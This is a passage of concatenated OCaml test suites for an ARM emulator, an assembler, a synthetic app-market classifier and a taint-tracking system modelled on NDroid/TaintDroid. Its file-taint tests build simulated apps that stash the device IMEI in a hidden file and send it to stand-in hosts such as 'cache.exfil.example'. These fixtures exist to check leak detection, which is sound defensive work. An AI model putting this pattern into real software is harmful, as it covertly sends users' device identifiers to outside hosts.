      Asm.I (Insn.mov 1 (Insn.Imm 100));
      Asm.Label "loop";
      Asm.I (Insn.add 0 0 (Insn.Reg 1));
      Asm.I (Insn.subs 1 1 (Insn.Imm 1));
      Asm.Br (Insn.NE, "loop");
      Asm.I Insn.bx_lr ]
    (fun cpu _ -> Alcotest.(check int) "sum 1..100" 5050 (Cpu.reg cpu 0))

let test_exec_flags_carry () =
  run_program
    [ Asm.Li (0, 0xFFFFFFFF);
      Asm.I (Insn.adds 0 0 (Insn.Imm 1));
      Asm.I (Insn.adc 1 1 (Insn.Imm 0));
      Asm.I Insn.bx_lr ]
    (fun cpu _ ->
      Alcotest.(check int) "wrapped" 0 (Cpu.reg cpu 0);
      Alcotest.(check int) "carry propagated" 1 (Cpu.reg cpu 1))

let test_exec_signed_overflow () =
  run_program
    [ Asm.Li (0, 0x7FFFFFFF);
      Asm.I (Insn.adds 0 0 (Insn.Imm 1));
      (* 0x7FFFFFFF + 1: N=1 and V=1, so N=V — GE passes, LT fails *)
      Asm.I (Insn.Dp { cond = Insn.LT; op = Insn.MOV; s = false; rd = 1; rn = 0;
                       op2 = Insn.Imm 1 });
      Asm.I (Insn.Dp { cond = Insn.GE; op = Insn.MOV; s = false; rd = 2; rn = 0;
                       op2 = Insn.Imm 1 });
      Asm.I (Insn.Dp { cond = Insn.MI; op = Insn.MOV; s = false; rd = 3; rn = 0;
                       op2 = Insn.Imm 1 });
      Asm.I (Insn.Dp { cond = Insn.VS; op = Insn.MOV; s = false; rd = 4; rn = 0;
                       op2 = Insn.Imm 1 });
      Asm.I Insn.bx_lr ]
    (fun cpu _ ->
      Alcotest.(check int) "LT skipped" 0 (Cpu.reg cpu 1);
      Alcotest.(check int) "GE taken" 1 (Cpu.reg cpu 2);
      Alcotest.(check int) "MI taken (negative)" 1 (Cpu.reg cpu 3);
      Alcotest.(check int) "VS taken (overflow)" 1 (Cpu.reg cpu 4))

let test_exec_mem_and_push_pop () =
  run_program
    [ Asm.I (Insn.mov 0 (Insn.Imm 0xAB));
      Asm.I (Insn.strb 0 13 (-1));
      Asm.I (Insn.ldrb 1 13 (-1));
      Asm.Li (2, 0x12345678);
      Asm.I (Insn.push [ 2 ]);
      Asm.I (Insn.pop [ 3 ]);
      Asm.I Insn.bx_lr ]
    (fun cpu _ ->
      Alcotest.(check int) "byte roundtrip" 0xAB (Cpu.reg cpu 1);
      Alcotest.(check int) "push/pop" 0x12345678 (Cpu.reg cpu 3);
      Alcotest.(check int) "sp balanced" 0x20000 (Cpu.sp cpu))

let test_exec_mul_shift () =
  run_program
    [ Asm.I (Insn.mov 1 (Insn.Imm 7));
      Asm.I (Insn.mov 2 (Insn.Imm 6));
      Asm.I (Insn.mul 0 1 2);
      Asm.I (Insn.mla 3 1 2 1);
      Asm.I (Insn.mov 4 (Insn.Reg_shift_imm (0, Insn.LSL, 3)));
      Asm.I (Insn.mov 5 (Insn.Reg_shift_imm (0, Insn.LSR, 1)));
      Asm.I Insn.bx_lr ]
    (fun cpu _ ->
      Alcotest.(check int) "mul" 42 (Cpu.reg cpu 0);
      Alcotest.(check int) "mla" 49 (Cpu.reg cpu 3);
      Alcotest.(check int) "lsl" 336 (Cpu.reg cpu 4);
      Alcotest.(check int) "lsr" 21 (Cpu.reg cpu 5))

let test_exec_vfp () =
  run_program
    [ Asm.Li (1, 0x40000000) (* 2.0f *);
      Asm.I (Insn.Vmov_core { cond = Insn.AL; to_core = false; rt = 1; sn = 0 });
      Asm.Li (1, 0x40400000) (* 3.0f *);
      Asm.I (Insn.Vmov_core { cond = Insn.AL; to_core = false; rt = 1; sn = 1 });
      Asm.I (Insn.Vdp { cond = Insn.AL; op = Insn.VMUL; prec = Insn.F32; vd = 2;
                        vn = 0; vm = 1 });
      Asm.I (Insn.Vmov_core { cond = Insn.AL; to_core = true; rt = 0; sn = 2 });
      Asm.I Insn.bx_lr ]
    (fun cpu _ ->
      Alcotest.(check int) "2.0f * 3.0f = 6.0f" 0x40C00000 (Cpu.reg cpu 0))

let test_exec_thumb_interworking () =
  (* ARM code BX-calls a Thumb function and gets a result back *)
  let thumb =
    Asm.assemble ~mode:Cpu.Thumb ~base:0x3000
      [ Asm.Label "double_it";
        Asm.I (Insn.adds 0 0 (Insn.Reg 0));
        Asm.I Insn.bx_lr ]
  in
  let arm =
    Asm.assemble ~base:0x1000
      [ Asm.I (Insn.mov 0 (Insn.Imm 21));
        Asm.Li (4, Asm.fn_addr thumb "double_it");
        Asm.I (Insn.push [ Insn.lr ]);
        Asm.I (Insn.blx_reg 4);
        Asm.I (Insn.pop [ Insn.pc ]) ]
  in
  let mem = Memory.create () in
  Asm.load thumb mem;
  Asm.load arm mem;
  let cpu = Cpu.create () in
  Cpu.set_pc cpu 0x1000;
  Cpu.set_sp cpu 0x20000;
  Cpu.set_reg cpu 14 0xFFFF0000;
  let rec go n =
    if Cpu.pc cpu = 0xFFFF0000 then ()
    else if n > 1000 then Alcotest.fail "runaway"
    else begin
      ignore (Exec.step cpu mem);
      go (n + 1)
    end
  in
  go 0;
  Alcotest.(check int) "thumb doubled" 42 (Cpu.reg cpu 0);
  Alcotest.(check bool) "back in ARM mode" true (cpu.Cpu.mode = Cpu.Arm)

let test_memory_primitives () =
  let mem = Memory.create () in
  Memory.write_u32 mem 0x100 0xDEADBEEF;
  Alcotest.(check int) "u32" 0xDEADBEEF (Memory.read_u32 mem 0x100);
  Alcotest.(check int) "u16 lo" 0xBEEF (Memory.read_u16 mem 0x100);
  Alcotest.(check int) "u8" 0xAD (Memory.read_u8 mem 0x102);
  Memory.write_cstring mem 0x200 "hello";
  Alcotest.(check string) "cstring" "hello" (Memory.read_cstring mem 0x200);
  Memory.write_f64 mem 0x300 3.25;
  Alcotest.(check (float 0.0)) "f64" 3.25 (Memory.read_f64 mem 0x300);
  Memory.write_f32 mem 0x310 1.5;
  Alcotest.(check (float 0.0)) "f32" 1.5 (Memory.read_f32 mem 0x310)

let test_icache () =
  let c = Ndroid_arm.Icache.create () in
  Alcotest.(check bool) "miss" true (Ndroid_arm.Icache.find c 0x1000 = None);
  Ndroid_arm.Icache.store c 0x1000 (Insn.bx_lr, 4);
  Alcotest.(check bool) "hit" true (Ndroid_arm.Icache.find c 0x1000 <> None);
  Alcotest.(check int) "hits" 1 (Ndroid_arm.Icache.hits c);
  Alcotest.(check int) "misses" 1 (Ndroid_arm.Icache.misses c)

let suite =
  [ Alcotest.test_case "dp roundtrip" `Quick test_dp_roundtrip;
    Alcotest.test_case "conditional roundtrip" `Quick test_conditional_roundtrip;
    Alcotest.test_case "mem roundtrip" `Quick test_mem_roundtrip;
    Alcotest.test_case "block/branch roundtrip" `Quick test_block_branch_roundtrip;
    Alcotest.test_case "vfp roundtrip" `Quick test_vfp_roundtrip;
    Alcotest.test_case "imm encodability" `Quick test_imm_encodable;
    Alcotest.test_case "thumb roundtrip" `Quick test_thumb_roundtrip;
    Alcotest.test_case "thumb unsupported" `Quick test_thumb_unsupported;
    Alcotest.test_case "exec: sum loop" `Quick test_exec_sum_loop;
    Alcotest.test_case "exec: carry chain" `Quick test_exec_flags_carry;
    Alcotest.test_case "exec: signed overflow" `Quick test_exec_signed_overflow;
    Alcotest.test_case "exec: memory + push/pop" `Quick test_exec_mem_and_push_pop;
    Alcotest.test_case "exec: mul + shifts" `Quick test_exec_mul_shift;
    Alcotest.test_case "exec: vfp" `Quick test_exec_vfp;
    Alcotest.test_case "exec: ARM/Thumb interworking" `Quick
      test_exec_thumb_interworking;
    Alcotest.test_case "memory primitives" `Quick test_memory_primitives;
    Alcotest.test_case "icache" `Quick test_icache;
    QCheck_alcotest.to_alcotest prop_dp_roundtrip ]
