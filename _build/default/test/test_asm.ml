(* Assembler: labels, branch resolution, pseudo-instructions, externs. *)

module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory
module Decode = Ndroid_arm.Decode

let test_labels_and_symbols () =
  let prog =
    Asm.assemble ~base:0x1000
      [ Asm.Label "start";
        Asm.I (Insn.mov 0 (Insn.Imm 1));
        Asm.Label "next";
        Asm.I Insn.bx_lr ]
  in
  Alcotest.(check int) "start" 0x1000 (Asm.symbol prog "start");
  Alcotest.(check int) "next" 0x1004 (Asm.symbol prog "next");
  Alcotest.(check int) "size" 8 (Asm.size prog);
  Alcotest.(check bool) "missing symbol" true
    (match Asm.symbol prog "nothere" with
     | exception Not_found -> true
     | _ -> false)

let test_branch_targets () =
  (* forward and backward branches resolve to the right encoded offsets *)
  let prog =
    Asm.assemble ~base:0x2000
      [ Asm.Label "top";
        Asm.I (Insn.mov 0 (Insn.Imm 0));
        Asm.Br (Insn.AL, "bottom");
        Asm.I (Insn.mov 0 (Insn.Imm 1));
        Asm.Label "bottom";
        Asm.Br (Insn.AL, "top") ]
  in
  let mem = Memory.create () in
  Asm.load prog mem;
  (* the branch at 0x2004 goes to 0x200C: offset = (0x200C - 0x200C) / 4 = 0 *)
  (match Decode.decode (Memory.read_u32 mem 0x2004) with
   | Some (Insn.B { offset; _ }) -> Alcotest.(check int) "forward" 0 offset
   | _ -> Alcotest.fail "not a branch");
  (* the branch at 0x200C goes to 0x2000: offset = (0x2000 - 0x2014) / 4 = -5 *)
  match Decode.decode (Memory.read_u32 mem 0x200C) with
  | Some (Insn.B { offset; _ }) -> Alcotest.(check int) "backward" (-5) offset
  | _ -> Alcotest.fail "not a branch"

let test_li_loads_any_constant () =
  List.iter
    (fun v ->
      let prog =
        Asm.assemble ~base:0x1000 [ Asm.Li (0, v); Asm.I Insn.bx_lr ]
      in
      let mem = Memory.create () in
      Asm.load prog mem;
      let cpu = Cpu.create () in
      Cpu.set_pc cpu 0x1000;
      Cpu.set_reg cpu 14 0xFFFF0000;
      while Cpu.pc cpu <> 0xFFFF0000 do
        ignore (Ndroid_arm.Exec.step cpu mem)
      done;
      Alcotest.(check int) (Printf.sprintf "li 0x%x" v) v (Cpu.reg cpu 0))
    [ 0; 1; 0xFF; 0x12345678; 0xFFFFFFFF; 0xDEADBEEF; 0x80000000 ]

let test_asciz_and_align () =
  let prog =
    Asm.assemble ~base:0x1000
      [ Asm.Asciz "hi"; Asm.Align4; Asm.Label "w"; Asm.Word 0xCAFE ]
  in
  let mem = Memory.create () in
  Asm.load prog mem;
  Alcotest.(check string) "string" "hi" (Memory.read_cstring mem 0x1000);
  Alcotest.(check int) "aligned word" 0x1004 (Asm.symbol prog "w");
  Alcotest.(check int) "word value" 0xCAFE (Memory.read_u32 mem 0x1004)

let test_extern_resolution () =
  let extern = function "puts" -> Some 0x40100000 | _ -> None in
  let prog = Asm.assemble ~extern ~base:0x1000 [ Asm.Call "puts"; Asm.I Insn.bx_lr ] in
  Alcotest.(check bool) "assembled" true (Asm.size prog > 0);
  Alcotest.check_raises "undefined extern"
    (Asm.Asm_error "undefined symbol nope") (fun () ->
      ignore (Asm.assemble ~extern ~base:0x1000 [ Asm.Call "nope" ]))

let test_duplicate_label () =
  Alcotest.check_raises "duplicate"
    (Asm.Asm_error "duplicate label x") (fun () ->
      ignore (Asm.assemble ~base:0 [ Asm.Label "x"; Asm.Label "x" ]))

let test_thumb_fn_addr () =
  let prog =
    Asm.assemble ~mode:Cpu.Thumb ~base:0x3000
      [ Asm.Label "f"; Asm.I Insn.bx_lr ]
  in
  Alcotest.(check int) "thumb bit set" 0x3001 (Asm.fn_addr prog "f");
  Alcotest.(check int) "raw symbol even" 0x3000 (Asm.symbol prog "f")

let test_la_pseudo () =
  let prog =
    Asm.assemble ~base:0x1000
      [ Asm.La (0, "data"); Asm.I Insn.bx_lr; Asm.Label "data"; Asm.Word 99 ]
  in
  let mem = Memory.create () in
  Asm.load prog mem;
  let cpu = Cpu.create () in
  Cpu.set_pc cpu 0x1000;
  Cpu.set_reg cpu 14 0xFFFF0000;
  while Cpu.pc cpu <> 0xFFFF0000 do
    ignore (Ndroid_arm.Exec.step cpu mem)
  done;
  Alcotest.(check int) "la points at data" (Asm.symbol prog "data") (Cpu.reg cpu 0);
  Alcotest.(check int) "data readable" 99 (Memory.read_u32 mem (Cpu.reg cpu 0))

let suite =
  [ Alcotest.test_case "labels and symbols" `Quick test_labels_and_symbols;
    Alcotest.test_case "branch offset resolution" `Quick test_branch_targets;
    Alcotest.test_case "li loads any 32-bit constant" `Quick
      test_li_loads_any_constant;
    Alcotest.test_case "asciz + align" `Quick test_asciz_and_align;
    Alcotest.test_case "extern resolution" `Quick test_extern_resolution;
    Alcotest.test_case "duplicate label" `Quick test_duplicate_label;
    Alcotest.test_case "thumb fn_addr" `Quick test_thumb_fn_addr;
    Alcotest.test_case "la pseudo-instruction" `Quick test_la_pseudo ]
