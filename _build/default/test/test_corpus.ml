(* Section III: market generator, classifier, statistics. *)

module Market = Ndroid_corpus.Market
module Classifier = Ndroid_corpus.Classifier
module Stats = Ndroid_corpus.Stats
module App_model = Ndroid_corpus.App_model

(* a scaled corpus keeps the suite fast; E1 runs the full 227,911 *)
let params = Market.scaled 22_791
let summary = lazy (Stats.summarize (Market.generate params))

let test_full_scale_headline_numbers () =
  (* the exact Sec. III numbers at full scale — the E1 experiment *)
  let s = Stats.summarize (Market.generate Market.default_params) in
  Alcotest.(check int) "227,911 apps" 227_911 s.Stats.total;
  Alcotest.(check int) "37,506 Type I" 37_506 s.Stats.type1;
  Alcotest.(check bool) "16.46%" true (abs_float (s.Stats.type1_pct -. 16.46) < 0.01);
  Alcotest.(check int) "4,034 without libs" 4_034 s.Stats.type1_no_libs;
  Alcotest.(check bool) "48.1% AdMob" true
    (abs_float (s.Stats.admob_pct_of_no_libs -. 48.1) < 0.2);
  Alcotest.(check int) "1,738 Type II" 1_738 s.Stats.type2;
  Alcotest.(check int) "394 loadable" 394 s.Stats.type2_loadable;
  Alcotest.(check int) "16 Type III" 16 s.Stats.type3;
  Alcotest.(check int) "11 games" 11 s.Stats.type3_game;
  Alcotest.(check int) "5 entertainment" 5 s.Stats.type3_entertainment

let test_scaled_proportions () =
  let s = Lazy.force summary in
  Alcotest.(check bool) "scaled Type I ~16.5%" true
    (abs_float (s.Stats.type1_pct -. 16.46) < 0.5)

let test_fig2_game_dominates () =
  let s = Lazy.force summary in
  match Stats.fig2_distribution s with
  | (top, pct) :: _ ->
    Alcotest.(check string) "Game leads" "Game" top;
    Alcotest.(check bool) "~42%" true (abs_float (pct -. 42.0) < 2.0)
  | [] -> Alcotest.fail "empty distribution"

let test_classifier_rules () =
  let dex calls =
    { App_model.method_refs =
        (if calls then [ List.hd App_model.load_invocation_sigs ]
         else [ "Landroid/util/Log;->d(Ljava/lang/String;Ljava/lang/String;)I" ]);
      native_decl_classes = [] }
  in
  let lib = { App_model.lib_name = "libx.so"; abi = App_model.Armeabi } in
  let base =
    { App_model.app_id = 0; package = "p"; category = App_model.Tools;
      main_dex = Some (dex false); embedded_dexes = []; libs = []; downloads = 0 }
  in
  Alcotest.(check string) "plain java" "not native"
    (Classifier.classification_name (Classifier.classify base));
  Alcotest.(check string) "load call = Type I" "Type I"
    (Classifier.classification_name
       (Classifier.classify { base with main_dex = Some (dex true) }));
  Alcotest.(check string) "load call without libs still Type I" "Type I"
    (Classifier.classification_name
       (Classifier.classify { base with main_dex = Some (dex true); libs = [] }));
  Alcotest.(check string) "libs without call = Type II" "Type II"
    (Classifier.classification_name
       (Classifier.classify { base with libs = [ lib ] }));
  Alcotest.(check string) "embedded loader = Type II (loadable)"
    "Type II (loadable)"
    (Classifier.classification_name
       (Classifier.classify
          { base with libs = [ lib ]; embedded_dexes = [ dex true ] }));
  Alcotest.(check string) "pure native = Type III" "Type III"
    (Classifier.classification_name
       (Classifier.classify { base with main_dex = None; libs = [ lib ] }))

let test_generator_deterministic () =
  let a = Market.app params 123 and b = Market.app params 123 in
  Alcotest.(check bool) "same app twice" true (a = b);
  let s1 = Stats.summarize (Market.generate params) in
  let s2 = Stats.summarize (Market.generate params) in
  Alcotest.(check int) "same type1" s1.Stats.type1 s2.Stats.type1

let test_admob_apps_have_the_8_classes () =
  let found = ref false in
  Seq.iter
    (fun app ->
      match app.App_model.main_dex with
      | Some dex
        when dex.App_model.native_decl_classes = App_model.admob_classes ->
        found := true;
        Alcotest.(check int) "8 classes" 8
          (List.length dex.App_model.native_decl_classes)
      | _ -> ())
    (Seq.take 2000 (Market.generate params));
  Alcotest.(check bool) "some AdMob apps generated" true !found

let test_type2_some_foreign_abi () =
  (* "some libraries are for x86 and other platforms" *)
  let has_x86 = ref false in
  Seq.iter
    (fun app ->
      match Classifier.classify app with
      | Classifier.Type_II _
        when List.exists (fun l -> l.App_model.abi = App_model.X86) app.App_model.libs
        -> has_x86 := true
      | _ -> ())
    (Market.generate params);
  Alcotest.(check bool) "x86-only leftovers exist" true !has_x86

let prop_classifier_total =
  QCheck.Test.make ~name:"every app classifies" ~count:100
    QCheck.(int_bound (params.Market.total - 1))
    (fun i ->
      let app = Market.app params i in
      match Classifier.classify app with
      | Classifier.Type_I | Classifier.Type_II _ | Classifier.Type_III
      | Classifier.Not_native ->
        true)

let suite =
  [ Alcotest.test_case "full-scale headline numbers" `Slow
      test_full_scale_headline_numbers;
    Alcotest.test_case "scaled proportions" `Quick test_scaled_proportions;
    Alcotest.test_case "Fig.2: Game dominates" `Quick test_fig2_game_dominates;
    Alcotest.test_case "classifier rules" `Quick test_classifier_rules;
    Alcotest.test_case "generator deterministic" `Quick test_generator_deterministic;
    Alcotest.test_case "AdMob classes" `Quick test_admob_apps_have_the_8_classes;
    Alcotest.test_case "Type II foreign ABI" `Quick test_type2_some_foreign_abi;
    QCheck_alcotest.to_alcotest prop_classifier_total ]

let test_prevalence_presets () =
  (* the Sec. I trend: every published measurement reproduced within 0.1% *)
  List.iter
    (fun p ->
      let s = Stats.summarize (Market.generate (Market.of_preset p)) in
      let published = float_of_int p.Market.p_type1_permille /. 10.0 in
      Alcotest.(check bool)
        (Printf.sprintf "%s ~ %.2f%%" p.Market.p_name published)
        true
        (abs_float (s.Stats.type1_pct -. published) < 0.15))
    Market.presets

let suite =
  suite
  @ [ Alcotest.test_case "Sec. I prevalence presets" `Slow
        test_prevalence_presets ]

(* ---- artifact-level classification agrees with the symbolic one ---- *)

module Apk = Ndroid_corpus.Apk

let test_apk_materialization () =
  let app = Market.app params 3 (* a Type I app *) in
  let apk = Apk.of_app_model app in
  Alcotest.(check bool) "has classes.dex" true
    (List.mem_assoc "classes.dex" apk.Apk.entries);
  Alcotest.(check bool) "dex parses and carries the load call" true
    (Apk.dex_calls_load (List.assoc "classes.dex" apk.Apk.entries))

let prop_apk_classifier_agrees =
  QCheck.Test.make
    ~name:"binary scan agrees with the symbolic classifier" ~count:150
    QCheck.(int_bound (params.Market.total - 1))
    (fun i ->
      let app = Market.app params i in
      Apk.classify (Apk.of_app_model app) = Classifier.classify app)

let test_apk_lib_paths () =
  (* a Type II app's libraries land under lib/<abi>/ *)
  let q1 = 37_506 * params.Market.total / 227_911 in
  let app = Market.app params (q1 + 5) in
  let apk = Apk.of_app_model app in
  Alcotest.(check bool) "has lib entries" true
    (List.exists
       (fun (p, _) -> String.length p > 4 && String.sub p 0 4 = "lib/")
       apk.Apk.entries)

let suite =
  suite
  @ [ Alcotest.test_case "apk materialization" `Quick test_apk_materialization;
      Alcotest.test_case "apk lib paths" `Quick test_apk_lib_paths;
      QCheck_alcotest.to_alcotest prop_apk_classifier_agrees ]

let test_library_distribution_kinds () =
  let entries = Stats.library_distribution (Market.generate params) in
  Alcotest.(check bool) "nonempty" true (List.length entries > 5);
  (* compatibility bundles rank high (bundled by all categories), and the
     game-engine libraries are bundled mostly by Game apps *)
  let top5 = List.filteri (fun i _ -> i < 5) entries in
  Alcotest.(check bool) "compat libs in the top" true
    (List.exists (fun e -> e.Stats.le_kind = Stats.Compatibility) top5);
  List.iter
    (fun e ->
      if e.Stats.le_kind = Stats.Game_engine then
        Alcotest.(check string)
          (e.Stats.le_name ^ " bundled mostly by games")
          "Game"
          (Ndroid_corpus.App_model.category_name e.Stats.le_top_category))
    entries

let suite =
  suite
  @ [ Alcotest.test_case "library distribution" `Quick
        test_library_distribution_kinds ]
