(* File-level taint (xattr): TaintDroid persists tags across file storage —
   the paper's setup runs "XATTR support for the YAFFS2 filesystem" for
   this.  Flows that bounce through a file must keep their tags in both the
   Java world (framework streams) and the native world (fwrite/fread). *)

module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout
module Vm = Ndroid_dalvik.Vm
module Interp = Ndroid_dalvik.Interp
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Taint = Ndroid_taint.Taint
module A = Ndroid_android
module H = Ndroid_apps.Harness

let check_taint = Alcotest.testable Taint.pp Taint.equal
let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
let movi rd v = Asm.I (Insn.mov rd (Insn.Imm v))

let test_fs_xattr_primitives () =
  let fs = A.Filesystem.create () in
  A.Filesystem.set_contents fs "/f" "data";
  Alcotest.check check_taint "default clear" Taint.clear
    (A.Filesystem.xattr_taint fs "/f");
  A.Filesystem.add_xattr_taint fs "/f" Taint.imei;
  A.Filesystem.add_xattr_taint fs "/f" Taint.sms;
  Alcotest.check check_taint "accumulates" (Taint.union Taint.imei Taint.sms)
    (A.Filesystem.xattr_taint fs "/f");
  A.Filesystem.set_xattr_taint fs "/f" Taint.clear;
  Alcotest.check check_taint "clearable" Taint.clear
    (A.Filesystem.xattr_taint fs "/f")

let test_java_file_bounce_taintdroid () =
  (* write IMEI to a file, read it back, send it: the framework streams
     carry the tag through the file, so even plain TaintDroid catches it *)
  let cls = "LBounce;" in
  let app : H.app =
    { H.app_name = "java-file-bounce";
      app_case = "file taint";
      description = "IMEI -> file -> read back -> send";
      classes =
        [ J.class_ ~name:cls
            [ J.method_ ~cls ~name:"main" ~shorty:"V"
                [ J.I (B.Invoke (B.Static,
                                 { B.m_class = "Landroid/telephony/TelephonyManager;";
                                   m_name = "getDeviceId" }, []));
                  J.I (B.Move_result 0);
                  J.I (B.Const_string (1, "/sdcard/.cache"));
                  J.I (B.Invoke (B.Static,
                                 { B.m_class = "Ljava/io/FileOutputStream;";
                                   m_name = "writeFile" }, [ 1; 0 ]));
                  J.I (B.Invoke (B.Static,
                                 { B.m_class = "Ljava/io/FileInputStream;";
                                   m_name = "readFile" }, [ 1 ]));
                  J.I (B.Move_result 2);
                  J.I (B.Const_string (3, "bounce.example"));
                  J.I (B.Invoke (B.Static,
                                 { B.m_class = "Ljava/net/Socket;"; m_name = "send" },
                                 [ 3; 2 ]));
                  J.I B.Return_void ] ] ];
      build_libs = (fun _ -> []);
      entry = (cls, "main");
      expected_sink = "Socket.send" }
  in
  Alcotest.(check bool) "TaintDroid catches the file bounce" true
    (H.run H.Taintdroid_only app).H.detected;
  Alcotest.(check bool) "vanilla does not" false (H.run H.Vanilla app).H.detected

let native_reader_app =
  (* Java writes the IMEI to a file; native code freads it and sends it *)
  let cls = "LNativeBounce;" in
  { H.app_name = "native-file-bounce";
    app_case = "file taint";
    description = "IMEI -> Java file write -> native fread -> send";
    classes =
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"slurpAndSend" ~shorty:"V" "slurpAndSend";
            J.method_ ~cls ~name:"main" ~shorty:"V"
              [ J.I (B.Invoke (B.Static,
                               { B.m_class = "Landroid/telephony/TelephonyManager;";
                                 m_name = "getDeviceId" }, []));
                J.I (B.Move_result 0);
                J.I (B.Const_string (1, "/sdcard/.cache2"));
                J.I (B.Invoke (B.Static,
                               { B.m_class = "Ljava/io/FileOutputStream;";
                                 m_name = "writeFile" }, [ 1; 0 ]));
                J.I (B.Invoke (B.Static, { B.m_class = cls;
                                           m_name = "slurpAndSend" }, []));
                J.I B.Return_void ] ] ];
    build_libs =
      (fun extern ->
        [ ( "nbounce",
            Asm.assemble ~extern ~base:Layout.app_lib_base
              ([ Asm.Label "slurpAndSend";
                Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
                (* f = fopen("/sdcard/.cache2", "r") *)
                Asm.La (0, "path");
                Asm.La (1, "mode");
                Asm.Call "fopen";
                Asm.I (Insn.mov 4 (Insn.Reg 0));
                (* n = fread(buf, 1, 64, f) *)
                Asm.La (0, "buf");
                movi 1 1;
                movi 2 64;
                mov 3 4;
                Asm.Call "fread";
                Asm.I (Insn.mov 5 (Insn.Reg 0)) (* bytes read *);
                mov 0 4;
                Asm.Call "fclose";
                (* send(socket(), buf, n) *)
                Asm.Call "socket";
                Asm.I (Insn.mov 4 (Insn.Reg 0));
                Asm.La (1, "dest");
                Asm.Call "connect";
                mov 0 4;
                Asm.La (1, "buf");
                mov 2 5;
                Asm.Call "send";
                movi 0 0;
                Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);
                Asm.Align4;
                Asm.Label "path";
                Asm.Asciz "/sdcard/.cache2";
                Asm.Label "mode";
                Asm.Asciz "r";
                Asm.Label "dest";
                Asm.Asciz "cache.exfil.example";
                Asm.Label "buf" ]
              @ List.init 20 (fun _ -> Asm.Word 0)) ) ]);
    entry = (cls, "main");
    expected_sink = "send" }

let test_native_file_bounce_ndroid () =
  let o = H.run H.Ndroid_full native_reader_app in
  Alcotest.(check bool) "NDroid catches via xattr + fread" true o.H.detected;
  (match o.H.leaks with
   | leak :: _ ->
     Alcotest.check check_taint "imei tag" Taint.imei leak.A.Sink_monitor.taint;
     Alcotest.(check string) "payload is the IMEI" "357242043237517"
       leak.A.Sink_monitor.data
   | [] -> Alcotest.fail "no leak")

let test_clean_files_stay_clean () =
  (* the CF-Bench disk workloads must not acquire spurious xattr tags *)
  let device = H.boot Ndroid_apps.Cfbench.app in
  Ndroid_apps.Cfbench.prepare device;
  ignore (Ndroid_core.Ndroid.attach device);
  (List.find (fun w -> w.Ndroid_apps.Cfbench.w_name = "Native Disk Write")
     Ndroid_apps.Cfbench.workloads).Ndroid_apps.Cfbench.w_run device ~iterations:4;
  Alcotest.check check_taint "clean write leaves no xattr" Taint.clear
    (A.Filesystem.xattr_taint (Device.fs device) "/sdcard/cfbench_out.dat")

let suite =
  [ Alcotest.test_case "xattr primitives" `Quick test_fs_xattr_primitives;
    Alcotest.test_case "Java file bounce (TaintDroid)" `Quick
      test_java_file_bounce_taintdroid;
    Alcotest.test_case "native file bounce (NDroid xattr+fread)" `Quick
      test_native_file_bounce_ndroid;
    Alcotest.test_case "clean files stay clean" `Quick test_clean_files_stay_clean ]
