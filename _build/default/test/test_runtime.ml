(* The device runtime: JNI bridge in both directions. *)

module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout
module Vm = Ndroid_dalvik.Vm
module Interp = Ndroid_dalvik.Interp
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Taint = Ndroid_taint.Taint

let cls = "LApp;"
let tv ?(taint = Taint.clear) v : Vm.tval = (v, taint)
let int32 n = Dvalue.Int (Int32.of_int n)
let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))

let boot classes lib_items =
  let device = Device.create () in
  Device.install_classes device classes;
  let extern name =
    match Machine.host_fn_addr (Device.machine device) name with
    | a -> Some a
    | exception Not_found -> None
  in
  let prog = Asm.assemble ~extern ~base:Layout.app_lib_base lib_items in
  Device.provide_library device "testlib" prog;
  Device.load_library device "testlib";
  device

let test_native_int_args () =
  (* int combine(int a, int b) { return a * 100 + b; } *)
  let device =
    boot
      [ J.class_ ~name:cls [ J.native_method ~cls ~name:"combine" ~shorty:"III" "combine" ] ]
      [ Asm.Label "combine";
        (* args: r2 = a, r3 = b *)
        Asm.I (Insn.mov 0 (Insn.Imm 100));
        Asm.I (Insn.mul 1 2 0);
        Asm.I (Insn.add 0 1 (Insn.Reg 3));
        Asm.I Insn.bx_lr ]
  in
  let v, _ = Device.run device cls "combine" [| tv (int32 7); tv (int32 9) |] in
  Alcotest.(check bool) "7*100+9" true (Dvalue.equal v (int32 709))

let test_native_stack_args () =
  (* 5 int params: the last ones arrive on the stack *)
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"sum5" ~shorty:"IIIIII" "sum5" ] ]
      [ Asm.Label "sum5";
        (* env r0, cls r1, p0 r2, p1 r3, p2..p4 on the stack *)
        Asm.I (Insn.add 0 2 (Insn.Reg 3));
        Asm.I (Insn.ldr 2 13 0);
        Asm.I (Insn.add 0 0 (Insn.Reg 2));
        Asm.I (Insn.ldr 2 13 4);
        Asm.I (Insn.add 0 0 (Insn.Reg 2));
        Asm.I (Insn.ldr 2 13 8);
        Asm.I (Insn.add 0 0 (Insn.Reg 2));
        Asm.I Insn.bx_lr ]
  in
  let v, _ =
    Device.run device cls "sum5"
      (Array.init 5 (fun i -> tv (int32 (i + 1))))
  in
  Alcotest.(check bool) "1+2+3+4+5" true (Dvalue.equal v (int32 15))

let test_get_string_utf_chars () =
  (* int firstByte(String s) { return GetStringUTFChars(s)[0]; } *)
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"firstByte" ~shorty:"IL" "firstByte" ] ]
      [ Asm.Label "firstByte";
        Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
        mov 1 2;
        Asm.I (Insn.mov 2 (Insn.Imm 0));
        Asm.Call "GetStringUTFChars";
        Asm.I (Insn.ldrb 0 0 0);
        Asm.I (Insn.pop [ Insn.r4; Insn.pc ]) ]
  in
  let vm = Device.vm device in
